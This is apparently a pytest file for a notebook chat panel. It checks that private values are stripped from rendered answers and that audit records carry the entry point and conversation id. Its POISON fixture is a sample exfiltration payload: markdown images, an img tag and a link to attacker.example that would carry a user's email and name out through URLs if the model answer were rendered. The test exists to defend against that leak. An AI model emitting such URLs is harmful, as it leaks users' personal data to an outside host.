"""The chat panel end to end against a recording server whose answer is poisoned: no real value
in any URL of the bubble, of "Insert as cell", of the Answer's reprs; the plain mention restored.
Calls from the panel name the cell that opened it, entry point "chat" and one conversation id."""

from __future__ import annotations

import threading
import time

import pytest

import workbench
from workbench.bench import RecordingServer
from workbench.ui import ChatPanel

from ..conftest import model_server

EMAIL = "li.wei@example.com"
POISON = ("Hello <PERSON_1>. ![x](https://attacker.example/?e=<EMAIL_ADDRESS_1>) "
          '<img src="https://attacker.example/i?<EMAIL_ADDRESS_1>"> [more](https://attacker.example/<PERSON_1>) '
          "Write to <EMAIL_ADDRESS_1>.")


@pytest.fixture
def remote(monkeypatch: pytest.MonkeyPatch):
    with model_server(monkeypatch, answer=POISON) as server:
        yield server


def _urls(html: str) -> list[str]:
    """Every URL-bearing attribute of a real tag (text that merely shows a tag is not one)."""
    from html.parser import HTMLParser

    found: list[str] = []

    class Tags(HTMLParser):
        def handle_starttag(self, tag, attrs):
            found.extend(v or "" for k, v in attrs if k in ("src", "href", "srcset", "style", "action"))

    Tags().feed(html)
    return found


def test_a_poisoned_answer_leaves_no_value_in_any_url_of_the_panel(remote: RecordingServer) -> None:
    with workbench.connect(entry_point="chat") as wb:
        panel = ChatPanel(wb, corpora=[], stream_interval=0)
        answer = panel.ask(f"Write to Li Wei at {EMAIL}.")
        assert answer is not None
        bubbles = [w.value for w in panel.transcript.children if 'data-testid="wb-answer"' in getattr(w, "value", "")]
        page = "".join(bubbles)
        assert EMAIL in page and "Li Wei" in page  # the plain mentions are restored
        assert not [u for u in _urls(page) if EMAIL in u or "Li" in u or "attacker" in u]
        assert "<img" not in page and "image not" in page
        cell = panel.wb  # "Insert as cell" inserts markdown_source(answer.text)
        from workbench.pipeline import markdown_source

        inserted = markdown_source(answer.text)
        assert "![" not in inserted and "](https://attacker" not in inserted and EMAIL in inserted
        assert not [u for u in _urls(answer._repr_html_()) if EMAIL in u or "attacker" in u]
        assert "](https://attacker" not in answer._repr_markdown_()
        del cell


def test_panel_calls_name_its_cell_chat_and_one_conversation(remote: RecordingServer) -> None:
    with workbench.connect(**{"privacy.enabled": True}) as wb:
        panel = ChatPanel(wb, corpora=[])
        panel.ask("First question, from Li Wei.")
        panel.ask("Second question.")
        first, second = [r for r in wb.audit_log.records() if r.get("outcome") == "answered"][-2:]
    assert first["entry_point"] == second["entry_point"] == "chat"
    assert first["gen_ai.conversation.id"] and first["gen_ai.conversation.id"] == second["gen_ai.conversation.id"]
    assert first["gen_ai.conversation.id"] == panel.conversation.id
    assert first.get("script_path") == panel.context.script_path  # the place that opened the panel


def test_stop_cancels_a_streaming_answer(monkeypatch: pytest.MonkeyPatch) -> None:
    long = "word " * 400
    threads_before = threading.active_count()  # other tests' threads may still be winding down
    with model_server(monkeypatch, answer=long, piece_delay=0.02):
        with workbench.connect() as wb:
            panel = ChatPanel(wb, corpora=[], stream_interval=0)
            panel.review("Say many words.")
            panel.send(wait=False)
            assert panel.state == "sending" and panel.stop_button.layout.display is None
            time.sleep(0.5)
            panel.stop()
            panel.wait(timeout=20)
            assert not (panel._worker and panel._worker.is_alive())
            records = wb.audit_log.records()
        assert panel.state == "compose" and "Stopped" in panel.status.value
        assert records[-1]["outcome"] == "interrupted"
        assert threading.active_count() <= threads_before + 3  # the stopped call left no thread behind
